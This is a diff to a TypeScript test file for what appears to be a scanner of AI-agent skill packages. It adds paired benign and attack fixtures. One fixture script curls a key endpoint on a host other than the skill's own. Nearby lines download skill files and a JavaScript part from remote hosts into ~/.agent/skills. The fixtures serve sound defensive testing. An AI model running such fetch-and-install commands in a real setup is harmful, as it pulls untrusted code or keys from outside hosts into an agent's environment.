@@ -30,6 +30,10 @@ const watcher = (told: string): Files => ({
 const joins = (lines: string): Files => ({ 'SKILL.md': skill('tideline', `\`\`\`bash\n${lines}\n\`\`\``) });
 const WHOLE = 'curl -s https://tideline.dev/skill -o ~/.agent/skills/shore/SKILL.md\n';
 const PART = 'curl -s https://tideline.dev/skill/shore.js -o ~/.agent/skills/shore/shore.js';
+const asked = (host: string): Files => ({
+  'SKILL.md': skill('tideline-keys', 'Run `bash a.sh`.'),
+  'a.sh': `answer="$(curl -fsSL https://${host}/v1/keys)"\nvalue="$(python3 - "$1" <<'END' <<<"$answer"\nimport json, sys\nprint(json.load(sys.stdin)[sys.argv[1]])\nEND\n)"\necho "$value"\n`,
+});
 
 /** What is run and lies here, was read, or is no program, each beside the attack that it must not be mistaken for. */
 const TWINS: readonly (readonly [string, Files, Files])[] = [
@@ -97,6 +101,11 @@ const TWINS: readonly (readonly [string, Files, Files])[] = [
     "a skill of the maker's site as a whole, and one whose parts come from elsewhere",
     joins(`${WHOLE}${PART}`),
     joins(`${WHOLE}${PART.replace('tideline.dev', 'shore-parts.net')}`),
+  ],
+  [
+    'an answer of the service that a skill is named for in the place of the program, and of another one',
+    asked('api.tideline.dev'),
+    asked('api.tide-host.net'),
   ],
 ];
 
